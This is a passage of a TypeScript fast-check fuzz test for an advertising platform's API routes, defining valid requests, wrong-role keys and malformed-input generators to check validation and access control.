          // a random object never carries a name
          {
            weight: 1,
            arbitrary: fc
              .dictionary(fc.string({ maxLength: 8 }).filter(isPlainKey), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 })
              .filter((value) => !('name' in value)),
          },
        ),
      ),
    },
    {
      // the create body, answered with a forecast and never stored
      name: `POST ${OPENAPI}/ad/campaign/forecast`,
      method: 'POST',
      path: `${OPENAPI}/ad/campaign/forecast`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify(campaignBody()) }),
      broken: jsonBody(brokenObject(() => campaignBody() as unknown as Json, campaignBreakers, campaignNoise)),
    },
    {
      name: `POST ${OPENAPI}/ad/campaign/status`,
      method: 'POST',
      path: `${OPENAPI}/ad/campaign/status`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ campaignId: f.campaignId, status: 'end' }) }),
      broken: jsonBody(brokenObject(() => ({ campaignId: f.campaignId, status: 'paused' }), statusBreakers('campaignId'))),
    },
    listRoute(`GET ${OPENAPI}/ad/campaign/list`, `${OPENAPI}/ad/campaign/list`, adv, notAdvertiser),
    {
      name: `GET ${OPENAPI}/ad/campaign/detail`,
      method: 'GET',
      path: `${OPENAPI}/ad/campaign/detail`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      valid: () => ({ query: [['campaignId', f.campaignId]] }),
      broken: queryOf(brokenQuery(() => ({ campaignId: f.campaignId }), idBreakers('campaignId'))),
    },
    {
      name: `POST ${OPENAPI}/ad/campaign/update`,
      method: 'POST',
      path: `${OPENAPI}/ad/campaign/update`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ campaignId: f.campaignId, name: 'Taken over' }) }),
      broken: jsonBody(brokenObject(() => ({ campaignId: f.campaignId }), campaignUpdateBreakers, campaignUpdateNoise)),
    },
    {
      name: `GET ${OPENAPI}/ad/campaign/stats`,
      method: 'GET',
      path: `${OPENAPI}/ad/campaign/stats`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      valid: () => ({ query: [['campaignId', f.campaignId]] }),
      broken: queryOf(brokenQuery(() => ({ campaignId: f.campaignId }), [...idBreakers('campaignId'), ...seriesBreakers])),
    },
    {
      name: `GET ${OPENAPI}/ad/campaign/verification`,
      method: 'GET',
      path: `${OPENAPI}/ad/campaign/verification`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      valid: () => ({ query: [['campaignId', f.campaignId]] }),
      broken: queryOf(brokenQuery(() => ({ campaignId: f.campaignId }), [...idBreakers('campaignId'), edit('limit', badQuery.integer(1, 200))])),
    },
    {
      name: `GET ${OPENAPI}/ad/delivery/diagnose`,
      method: 'GET',
      path: `${OPENAPI}/ad/delivery/diagnose`,
      key: adv,
      wrongRoleKeys: [partner],
      valid: () => ({ query: [['campaignId', f.campaignId]] }),
      broken: queryOf(
        brokenQuery(
          () => ({ campaignId: f.campaignId }),
          [
            ...idBreakers('campaignId'),
            // the publisher's block is not the advertiser's: 404 like an unknown one
            edit('adBlockId', fc.oneof(badQuery.id(64), unknownId(knownIds), fc.constant(f.adBlockId))),
            edit('openId', badQuery.id(128)),
            edit('country', fc.oneof(fc.constantFrom('', 'XX', 'USA', 'u', '12', 'U S'), fc.constant(['US', 'DE']))),
            edit('language', fc.oneof(fc.constantFrom('', 'xx', 'eng', 'english', 'e1'), fc.constant(['en', 'de']))),
            edit('platform', badQuery.oneOf(['iOS', 'Android', 'Desktop'])),
            edit('ip', fc.oneof(fc.constantFrom('', '300.1.1.1', 'not-an-ip', '10.0.1', '::g', 'localhost'), fc.constant(['8.8.8.8', '1.1.1.1']))),
            edit('limit', badQuery.integer(1, 9)),
          ],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/ad/block/create`,
      method: 'POST',
      path: `${OPENAPI}/ad/block/create`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ name: 'Stolen block' }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ name: 'Fuzz block' }),
          [
            edit('name', bad.text(200)),
            edit('requireSignedViewer', fc.oneof(bad.flag(), fc.constant(null))),
            // at create a null floor or list is refused: absent means none
            edit('floorCpm', fc.oneof(bad.usdt(false), fc.constant(null))),
            edit('floorCpc', fc.oneof(bad.usdt(false), fc.constant(null))),
            edit('blockedCategories', fc.oneof(badCategories, fc.constant(null))),
            edit('blockedDomains', fc.oneof(badDomains, fc.constant(null))),
            ...rewardBreakers,
          ],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/ad/block/update`,
      method: 'POST',
      path: `${OPENAPI}/ad/block/update`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ adBlockId: f.adBlockId, name: 'Taken over', requireSignedViewer: true }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ adBlockId: f.adBlockId }),
          [
            ...idBreakers('adBlockId'),
            // null is refused too: it never means "unchanged" here
            edit('name', fc.oneof(bad.text(200, false), fc.constant(null))),
            edit('requireSignedViewer', fc.oneof(bad.flag(), fc.constant(null))),
            ...rewardBreakers,
            // a null floor removes it (valid); a null list is refused
            edit('floorCpm', bad.usdt(false)),
            edit('floorCpc', bad.usdt(false)),
            edit('blockedCategories', fc.oneof(badCategories, fc.constant(null))),
            edit('blockedDomains', fc.oneof(badDomains, fc.constant(null))),
          ],
          [edit('name', hostileText), fc.constant<Edit[]>([['requireSignedViewer', true]])],
        ),
      ),
    },
    listRoute(`GET ${OPENAPI}/ad/block/list`, `${OPENAPI}/ad/block/list`, pub, notPublisher),
    {
      name: `GET ${OPENAPI}/ad/block/detail`,
      method: 'GET',
      path: `${OPENAPI}/ad/block/detail`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: [['adBlockId', f.adBlockId]] }),
      broken: queryOf(brokenQuery(() => ({ adBlockId: f.adBlockId }), idBreakers('adBlockId'))),
    },
    {
      name: `GET ${OPENAPI}/ad/block/stats`,
      method: 'GET',
      path: `${OPENAPI}/ad/block/stats`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: [['adBlockId', f.adBlockId]] }),
      broken: queryOf(brokenQuery(() => ({ adBlockId: f.adBlockId }), [...idBreakers('adBlockId'), ...seriesBreakers])),
    },
    {
      name: `GET ${OPENAPI}/ad/block/rewards`,
      method: 'GET',
      path: `${OPENAPI}/ad/block/rewards`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: [['adBlockId', f.adBlockId]] }),
      broken: queryOf(
        brokenQuery(
          () => ({ adBlockId: f.adBlockId }),
          [...idBreakers('adBlockId'), ...pagingBreakers, edit('status', badQuery.oneOf(['pending', 'delivered', 'failed']))],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/ad/block/rewards/replay`,
      method: 'POST',
      path: `${OPENAPI}/ad/block/rewards/replay`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ eventId: 'rw_0123456789abcdef' }) }),
      broken: jsonBody(brokenObject(() => ({ eventId: 'rw_0123456789abcdef' }), idBreakers('eventId'))),
    },
    {
      name: `POST ${OPENAPI}/ad/block/rewards/test`,
      method: 'POST',
      path: `${OPENAPI}/ad/block/rewards/test`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ adBlockId: f.adBlockId }) }),
      broken: jsonBody(brokenObject(() => ({ adBlockId: f.adBlockId }), idBreakers('adBlockId'))),
    },
    {
      name: `GET ${OPENAPI}/matching/ad`,
      method: 'GET',
      path: `${OPENAPI}/matching/ad`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: toPairs({ adBlockId: f.adBlockId, openId: 'fuzz-user', type: 'messenger', limit: '3' }) }),
      broken: fc
        .tuple(
          brokenQuery(
            () => ({ adBlockId: f.adBlockId, openId: 'fuzz-user', type: 'messenger', limit: '3' }),
            [
              ...idBreakers('adBlockId'),
              edit('openId', fc.oneof(badQuery.id(128), fc.constant(ABSENT))),
              edit('type', fc.oneof(badQuery.oneOf(['messenger', 'telegram']), fc.constant(ABSENT))),
              edit('limit', fc.oneof(badQuery.integer(1, 9), fc.constant(ABSENT))),
            ],
          ),
          fetchHeaders,
        )
        .map(([query, headers]) => ({ query: toPairs(query), headers })),
    },
    {
      name: `POST ${OPENAPI}/ad/event/report`,
      method: 'POST',
      path: `${OPENAPI}/ad/event/report`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({
        body: JSON.stringify({
          eventType: 'click',
          eventData: { adBlockId: f.adBlockId, messengerUserId: 'u', adId: `ad_${f.campaignId}`, campaignId: f.campaignId },
        }),
      }),
      broken: jsonBody(
        brokenObject(
          () => ({
            eventType: 'click',
            eventData: { adBlockId: f.adBlockId, messengerUserId: 'fuzz-user', adId: `ad_${f.campaignId}`, campaignId: f.campaignId },
          }),
          [
            edit('eventType', bad.oneOf(['click'])),
            edit('eventData', bad.object()),
            edit('eventData.adBlockId', fc.oneof(bad.id(64), unknownId(knownIds))),
            edit('eventData.messengerUserId', bad.id(128)),
            edit('eventData.telegramUserId', conflictingAlias),
            edit('eventData.adId', bad.id(64)),
            edit('eventData.campaignId', bad.id(64)),
          ],
          [edit('eventData.messengerUserId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/ad/event/report/conversion`,
      method: 'POST',
      path: `${OPENAPI}/ad/event/report/conversion`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ eventType: 'conversion', eventData: { messengerUserId: 'fuzz-user' } }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ eventType: 'conversion', eventData: { messengerUserId: 'fuzz-user' } }),
          [
            edit('eventType', bad.oneOf(['conversion'])),
            edit('eventData', bad.object()),
            edit('eventData.messengerUserId', bad.id(128)),
            edit('eventData.telegramUserId', conflictingAlias),
          ],
          [edit('eventData.messengerUserId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/ad/event/report/custom`,
      method: 'POST',
      path: `${OPENAPI}/ad/event/report/custom`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ eventType: 'payment', eventData: { messengerUserId: 'fuzz-user' } }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ eventType: 'register', eventData: { messengerUserId: 'fuzz-user' } }),
          [
            edit('eventType', fc.oneof(bad.oneOf(CUSTOM_EVENT_TYPES), fc.constantFrom('conversion', 'click'))),
            edit('eventData', bad.object()),
            edit('eventData.messengerUserId', bad.id(128)),
          ],
          [edit('eventData.messengerUserId', hostileText), edit('eventType', fc.constantFrom(...CUSTOM_EVENT_TYPES))],
        ),
      ),
    },
    {
      name: `GET ${OPENAPI}/ad/conversion/summary`,
      method: 'GET',
      path: `${OPENAPI}/ad/conversion/summary`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      valid: () => ({ query: [] }),
      broken: queryOf(brokenQuery(() => ({}), rangeBreakers)),
    },
    {
      name: `POST ${OPENAPI}/user/profile/batch`,
      method: 'POST',
      path: `${OPENAPI}/user/profile/batch`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ list: [validRecord(1)] }) }),
      broken: jsonBody(brokenObject(() => ({ list: [validRecord(1), validRecord(2), validRecord(3)] }), recordBreakers, recordNoise)),
    },
    {
      name: `GET ${OPENAPI}/user/profile/batch/status`,
      method: 'GET',
      path: `${OPENAPI}/user/profile/batch/status`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: [['batchId', f.batchId]] }),
      broken: queryOf(brokenQuery(() => ({ batchId: f.batchId }), idBreakers('batchId'))),
    },
    {
      name: `POST ${OPENAPI}/user/profile/batch/csv`,
      method: 'POST',
      path: `${OPENAPI}/user/profile/batch/csv`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'csv',
      valid: () => ({ body: `${CSV_COLUMNS.join(',')}\n${csvLine(['csv-valid', 'EQD4', 'evm', '8.8.8.8', 'true', 'en'])}\n`, contentType: 'text/csv' }),
      broken: fc.tuple(brokenCsv, fc.constantFrom('text/csv', 'text/csv; charset=utf-8')).map(([body, contentType]) => ({ body, contentType })),
    },
    {
      name: `GET ${OPENAPI}/matching/exchange`,
      method: 'GET',
      path: `${OPENAPI}/matching/exchange`,
      key: partner,
      wrongRoleKeys: notPartner,
      valid: () => ({ query: toPairs({ exchangeCampaignId: f.exchangeCampaignId, openId: 'fuzz-user', type: 'messenger', limit: '3' }) }),
      broken: fc
        .tuple(
          brokenQuery(
            () => ({ exchangeCampaignId: f.exchangeCampaignId, openId: 'fuzz-user', type: 'messenger', limit: '3' }),
            [
              ...idBreakers('exchangeCampaignId'),
              edit('openId', fc.oneof(badQuery.id(128), fc.constant(ABSENT))),
              edit('type', fc.oneof(badQuery.oneOf(['messenger', 'telegram']), fc.constant(ABSENT))),
              edit('limit', fc.oneof(badQuery.integer(1, 9), fc.constant(ABSENT))),
            ],
          ),
          fetchHeaders,
        )
        .map(([query, headers]) => ({ query: toPairs(query), headers })),
    },
    {
      name: `POST ${OPENAPI}/exchange/event/report`,
      method: 'POST',
      path: `${OPENAPI}/exchange/event/report`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({
        body: JSON.stringify({
          eventType: 'click',
          eventData: { messengerUserId: 'u', inExchangeCampaignId: UNKNOWN_ID, outExchangeCampaignId: f.exchangeCampaignId },
        }),
      }),
      broken: jsonBody(
        brokenObject(
          () => ({
            eventType: 'click',
            eventData: { messengerUserId: 'fuzz-user', inExchangeCampaignId: UNKNOWN_ID, outExchangeCampaignId: f.exchangeCampaignId },
          }),
          [
            edit('eventType', bad.oneOf(['click'])),
            edit('eventData', bad.object()),
            edit('eventData.messengerUserId', bad.id(128)),
            edit('eventData.telegramUserId', conflictingAlias),
            edit('eventData.inExchangeCampaignId', bad.id(64)),
            edit('eventData.outExchangeCampaignId', fc.oneof(bad.id(64), unknownId(knownIds))),
          ],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/exchange/event/report/conversion`,
      method: 'POST',
      path: `${OPENAPI}/exchange/event/report/conversion`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ eventType: 'conversion', eventData: { messengerUserId: 'fuzz-user' } }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ eventType: 'conversion', eventData: { messengerUserId: 'fuzz-user' } }),
          [
            edit('eventType', bad.oneOf(['conversion'])),
            edit('eventData', bad.object()),
            edit('eventData.messengerUserId', bad.id(128)),
            edit('eventData.telegramUserId', conflictingAlias),
          ],
          [edit('eventData.messengerUserId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/exchange/campaign/create`,
      method: 'POST',
      path: `${OPENAPI}/exchange/campaign/create`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify(exchangeBody()) }),
      broken: jsonBody(brokenObject(exchangeBody, exchangeBreakers(false), [edit('name', hostileText), edit('text', hostileText)])),
    },
    listRoute(`GET ${OPENAPI}/exchange/campaign/list`, `${OPENAPI}/exchange/campaign/list`, partner, notPartner),
    {
      name: `GET ${OPENAPI}/exchange/campaign/detail`,
      method: 'GET',
      path: `${OPENAPI}/exchange/campaign/detail`,
      key: partner,
      wrongRoleKeys: notPartner,
      valid: () => ({ query: [['exchangeCampaignId', f.exchangeCampaignId]] }),
      broken: queryOf(brokenQuery(() => ({ exchangeCampaignId: f.exchangeCampaignId }), idBreakers('exchangeCampaignId'))),
    },
    {
      name: `POST ${OPENAPI}/exchange/campaign/update`,
      method: 'POST',
      path: `${OPENAPI}/exchange/campaign/update`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ exchangeCampaignId: f.exchangeCampaignId, name: 'Taken over' }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ exchangeCampaignId: f.exchangeCampaignId }),
          [...idBreakers('exchangeCampaignId'), ...exchangeBreakers(true)],
          [edit('name', hostileText), fc.constant<Edit[]>([['image', null]]), fc.constant<Edit[]>([['targeting', { includedRegions: ['FR'] }]])],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/exchange/campaign/status`,
      method: 'POST',
      path: `${OPENAPI}/exchange/campaign/status`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ exchangeCampaignId: f.exchangeCampaignId, status: 'end' }) }),
      broken: jsonBody(brokenObject(() => ({ exchangeCampaignId: f.exchangeCampaignId, status: 'paused' }), statusBreakers('exchangeCampaignId'))),
    },
    {
      name: `GET ${OPENAPI}/exchange/campaign/stats`,
      method: 'GET',
      path: `${OPENAPI}/exchange/campaign/stats`,
      key: partner,
      wrongRoleKeys: notPartner,
      valid: () => ({ query: [['exchangeCampaignId', f.exchangeCampaignId]] }),
      broken: queryOf(brokenQuery(() => ({ exchangeCampaignId: f.exchangeCampaignId }), [...idBreakers('exchangeCampaignId'), ...seriesBreakers])),
    },
    {
      name: `GET ${OPENAPI}/account/me`,
      method: 'GET',
      path: `${OPENAPI}/account/me`,
      key: adv,
      wrongRoleKeys: [],
      valid: () => ({}),
    },
    {
      name: `POST ${OPENAPI}/account/update`,
      method: 'POST',
      path: `${OPENAPI}/account/update`,
      key: adv,
      wrongRoleKeys: [],
      body: 'json',
      valid: () => ({ body: JSON.stringify({ timeZone: 'Europe/Berlin' }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ timeZone: 'Europe/Berlin' }),
          [
            edit(
              'timeZone',
              fc.oneof(notString(true), fc.constant(ABSENT), fc.constantFrom('', 'Mars/Olympus', '+05:00', 'EST', 'Europe/Berlin/'), hostileText),
            ),
          ],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/account/webhook-secret/rotate`,
      method: 'POST',
      path: `${OPENAPI}/account/webhook-secret/rotate`,
      key: adv,
      // advertisers and publishers have a webhook secret (it signs publishers' viewer tokens)
      wrongRoleKeys: [partner],
      body: 'none',
      valid: () => ({}),
    },
    {
      name: `POST ${OPENAPI}/account/postback-token/rotate`,
      method: 'POST',
      path: `${OPENAPI}/account/postback-token/rotate`,
      key: adv,
      wrongRoleKeys: [pub, partner],
      body: 'none',
      valid: () => ({}),
    },
    {
      name: `GET ${OPENAPI}/report`,
      method: 'GET',
      path: `${OPENAPI}/report`,
      key: adv,
      wrongRoleKeys: [partner],
      valid: () => ({ query: [['groupBy', 'day,country']] }),
      broken: queryOf(
        brokenQuery(
          () => ({ groupBy: 'day,country' }),
          [
            ...rangeBreakers,
            edit(
              'groupBy',
              fc.oneof(fc.constantFrom('week', 'hour,day,campaign,country', 'country,country', 'day,,country', 'Day'), fc.constant(['day', 'country'])),
            ),
            edit('campaignId', fc.oneof(longerThan(64), unknownId(knownIds), fc.constant(['a', 'b']))),
            edit('adBlockId', fc.oneof(longerThan(64), fc.constant(['a', 'b']))),
            edit('timeZone', fc.oneof(fc.constantFrom('', 'Mars/Olympus', 'UTC+1', 'europe/nowhere'), longerThan(64))),
            edit('format', badQuery.oneOf(['json', 'csv'])),
            edit('as', fc.constantFrom('publisher', 'partner', 'admin', '')),
          ],
        ),
      ),
    },
    {
      name: `GET ${OPENAPI}/postback`,
      method: 'GET',
      path: `${OPENAPI}/postback`,
      // public (the postback token names the advertiser): a request whose token is unknown is the 401 here
      key: adv,
      wrongRoleKeys: [],
      valid: () => ({
        query: [
          ['token', 'pbt_fuzz-unknown-token'],
          ['clickId', 'mip4x2k0a3Qe1Zr8VtL0pXy7BnC5dFgH'],
        ],
      }),
      broken: queryOf(
        brokenQuery(
          () => ({ token: 'pbt_fuzz-unknown-token', clickId: 'mip4x2k0a3Qe1Zr8VtL0pXy7BnC5dFgH' }),
          [
            edit('token', fc.oneof(fc.constant(ABSENT), fc.constant(''), longerThan(100), fc.constant(['a', 'b']))),
            edit('clickId', fc.oneof(fc.constant(ABSENT), fc.constant(''), longerThan(64), fc.constant(['a', 'b']))),
            edit('event', badQuery.oneOf(['conversion', 'onboard', 'register', 'play', 'payment', 'withdraw'])),
            edit('transactionId', fc.oneof(fc.constant(''), longerThan(128), fc.constant('caf\u00e9'), fc.constant(['a', 'b']))),
          ],
        ),
      ),
    },
    {
      name: `GET ${OPENAPI}/account/keys`,
      method: 'GET',
      path: `${OPENAPI}/account/keys`,
      key: adv,
      wrongRoleKeys: [],
      valid: () => ({}),
    },
    {
      name: `POST ${OPENAPI}/account/keys`,
      method: 'POST',
      path: `${OPENAPI}/account/keys`,
      key: adv,
      wrongRoleKeys: [],
      body: 'json',
      valid: () => ({ body: JSON.stringify({ scope: 'serve', label: 'widget', allowedOrigins: ['https://app.example.com'] }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ scope: 'serve', label: 'widget', allowedOrigins: ['https://app.example.com', 'http://localhost:5173'] }),
          [
            edit('scope', fc.oneof(notString(false), fc.constantFrom('', 'FULL', 'admin', 'publishable', ' serve'), hostileText)),
            edit('label', fc.oneof(notString(false), longerThan(100))),
            edit(
              'allowedOrigins',
              fc.oneof(
                fc.integer(),
                fc.boolean(),
                smallObject,
                fc.constant('https://app.example.com'),
                fc.constant(Array.from({ length: 21 }, (_, i) => `https://a${i}.example.com`)),
              ),
            ),
            edit(
              'allowedOrigins.1',
              fc.oneof(
                fc.constantFrom(
                  'https://app.example.com/',
                  'https://app.example.com/path',
                  'app.example.com',
                  'ftp://app.example.com',
                  'https://',
                  '*',
                  'null',
                  'https://app.example.com?x=1',
                  'https://user@app.example.com',
                  'https://app.example.com:99999999',
                ),
                notString(true),
                hostileText,
              ),
            ),
          ],
        ),
      ),
    },
    {
      name: `POST ${OPENAPI}/account/keys/revoke`,
      method: 'POST',
      path: `${OPENAPI}/account/keys/revoke`,
      key: adv,
      wrongRoleKeys: [],
      body: 'json',
      valid: () => ({ body: JSON.stringify({ keyId: f.keyId }) }),
      broken: fc.oneof(
        jsonBody(brokenObject(() => ({ keyId: f.keyId }), [edit('keyId', fc.oneof(notString(true), fc.constant(ABSENT), fc.constant(''), longerThan(64)))])),
        // another account's key (the fixture key is the publisher's) or no key at all: 404 alike
        fc
          .oneof(
            fc.constant(f.keyId),
            unknownId(() => []),
          )
          .map((keyId) => ({ body: JSON.stringify({ keyId }), contentType: 'application/json', expect: [404] })),
      ),
    },
    {
      name: `POST ${ADMIN}/accounts`,
      method: 'POST',
      path: `${ADMIN}/accounts`,
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ name: 'Intruder', roles: ['admin'] }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ name: 'Fuzz account', roles: ['advertiser'] }),
          [
            edit('name', bad.text(200)),
            edit(
              'roles',
              fc.oneof(
                fc.string({ maxLength: 10 }),
                fc.integer(),
                smallObject,
                fc.constant(null),
                fc.constant([]),
                fc.constant(ABSENT),
                fc.constant(['advertiser', 'publisher', 'partner', 'admin', 'advertiser']),
                fc
                  .tuple(
                    fc.oneof(
                      fc.string({ maxLength: 12 }).filter((role) => !['advertiser', 'publisher', 'partner', 'admin'].includes(role)),
                      notString(true),
                    ),
                  )
                  .map(([role]) => ['advertiser', role]),
              ),
            ),
          ],
          [edit('name', hostileText)],
        ),
      ),
    },
    listRoute(`GET ${ADMIN}/accounts`, `${ADMIN}/accounts`, ADMIN_KEY, notAdmin),
    {
      name: `GET ${ADMIN}/accounts/{accountId}`,
      method: 'GET',
      path: adminPath(`${ADMIN}/accounts/{accountId}`, f.advertiser.accountId),
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      valid: () => ({}),
      broken: badPathParam(knownIds).map((param) => ({ path: adminPath(`${ADMIN}/accounts/{accountId}`, param), expect: [400, 404, 414] })),
    },
    {
      name: `POST ${ADMIN}/accounts/{accountId}/keys`,
      method: 'POST',
      path: adminPath(`${ADMIN}/accounts/{accountId}/keys`, f.advertiser.accountId),
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ label: 'stolen' }) }),
      broken: fc.oneof(
        fc.oneof(notString(false), longerThan(100)).map((label) => ({ body: JSON.stringify({ label }), contentType: 'application/json' })),
        fc.tuple(badPathParam(knownIds), fc.option(fc.string({ maxLength: 20 }))).map(([param, label]) => ({
          path: adminPath(`${ADMIN}/accounts/{accountId}/keys`, param),
          body: JSON.stringify(label === null ? {} : { label }),
          contentType: 'application/json',
          expect: [400, 404, 414],
        })),
      ),
    },
    {
      name: `GET ${ADMIN}/accounts/{accountId}/keys`,
      method: 'GET',
      path: adminPath(`${ADMIN}/accounts/{accountId}/keys`, f.advertiser.accountId),
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      valid: () => ({}),
      broken: badPathParam(knownIds).map((param) => ({ path: adminPath(`${ADMIN}/accounts/{accountId}/keys`, param), expect: [400, 404, 414] })),
    },
    {
      name: `POST ${ADMIN}/keys/{keyId}/revoke`,
      method: 'POST',
      path: adminPath(`${ADMIN}/keys/{keyId}/revoke`, f.keyId),
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'none',
      valid: () => ({}),
      broken: fc.tuple(badPathParam(knownIds), fc.option(fc.jsonValue({ maxDepth: 2 }))).map(([param, body]) => ({
        path: adminPath(`${ADMIN}/keys/{keyId}/revoke`, param),
        ...(body === null ? {} : { body: JSON.stringify(body), contentType: 'application/json' }),
        expect: [400, 404, 414],
      })),
    },
    {
      name: `POST ${ADMIN}/profiles/rebuild-store`,
      method: 'POST',
      path: `${ADMIN}/profiles/rebuild-store`,
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'none',
      valid: () => ({}),
    },
    listRoute(`GET ${ADMIN}/reviews`, `${ADMIN}/reviews`, ADMIN_KEY, notAdmin),
    {
      name: `POST ${ADMIN}/reviews/approve`,
      method: 'POST',
      path: `${ADMIN}/reviews/approve`,
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ campaignId: f.campaignId }) }),
      broken: jsonBody(brokenObject(() => ({ campaignId: f.campaignId }), idBreakers('campaignId'))),
    },
    {
      name: `POST ${ADMIN}/reviews/reject`,
      method: 'POST',
      path: `${ADMIN}/reviews/reject`,
      key: ADMIN_KEY,
      wrongRoleKeys: notAdmin,
      body: 'json',
      valid: () => ({ body: JSON.stringify({ campaignId: f.campaignId, note: 'rejected' }) }),
      broken: jsonBody(brokenObject(() => ({ campaignId: f.campaignId, note: 'rejected' }), [...idBreakers('campaignId'), edit('note', bad.text(1000))])),
    },
    ...sdkRoutes(f, { pub, adv, partner, notPublisher, notPartner, knownIds }),
  ];
}

/** The ton-ai-sdk's routes (src/compat/): their keys and bodies as the SDK sends them; a broken one is a 400 or 404. */
function sdkRoutes(
  f: Fixtures,
  keys: { pub: string; adv: string; partner: string; notPublisher: string[]; notPartner: string[]; knownIds: () => string[] },
): Route[] {
  const { pub, partner, notPublisher, notPartner, knownIds } = keys;
  const SDK = '/api/v2';
  const userTypes = ['telegram', 'messenger'];
  const eventTypes = ['click', 'impression', 'complete', 'conversion'];
  const viewer = { openId: 'fuzz-user', uuid: '2854123301', type: 'telegram' };
  const fetchRoute = (path: string, multi: boolean): Route => {
    const base = () => ({ adBlockId: f.adBlockId, source: 'earn', viewer, ...(multi ? { limit: 3 } : {}) });
    return {
      name: `POST ${SDK}${path}`,
      method: 'POST',
      path: `${SDK}${path}`,
      key: pub,
      wrongRoleKeys: notPublisher,
      body: 'json',
      valid: () => ({ body: JSON.stringify(base()) }),
      broken: jsonBody(
        brokenObject(base, [
          edit('adBlockId', fc.oneof(bad.id(64), unknownId(knownIds))),
          edit('source', bad.oneOf(['normal', 'earn'], false)),
          edit('viewer', bad.object()),
          edit('viewer.openId', bad.id(128)),
          edit('viewer.type', bad.oneOf(userTypes, false)),
          edit('viewer.uuid', fc.oneof(notString(false), longerThan(128))),
          ...(multi ? [edit('limit', fc.oneof(notNumber(true), fc.integer({ max: 0 }), fc.integer({ min: 10 }), fc.constant(2.5)))] : []),
        ]),
      ),
    };
  };
  const exchangeFetchRoute = (path: string, multi: boolean): Route => {
    const base = () => ({ exchangeCampaignId: f.exchangeCampaignId, source: 'earn', viewer: { telegramUserId: 'fuzz-user' }, ...(multi ? { limit: 3 } : {}) });
    return {
      name: `POST ${SDK}${path}`,
      method: 'POST',
      path: `${SDK}${path}`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify(base()) }),
      broken: jsonBody(
        brokenObject(base, [
          edit('exchangeCampaignId', fc.oneof(bad.id(64), unknownId(knownIds))),
          edit('source', bad.oneOf(['normal', 'earn'], false)),
          edit('viewer', bad.object()),
          edit('viewer.telegramUserId', bad.id(128)),
          ...(multi ? [edit('limit', fc.oneof(notNumber(true), fc.integer({ max: 0 }), fc.integer({ min: 10 }), fc.constant(2.5)))] : []),
        ]),
      ),
    };
  };
  // Signed with a sign of nothing: every broken report is refused for its field, or else for its sign.
  const adEvent = () => ({
    eventType: 'click',
    eventData: { campaignId: f.campaignId, adId: `ad_${f.campaignId}`, adBlockId: f.adBlockId, type: 'telegram', openId: 'fuzz-user', timestamp: 1 },
    sign: '0'.repeat(32),
  });
  const exchangeEvent = () => ({
    eventType: 'click',
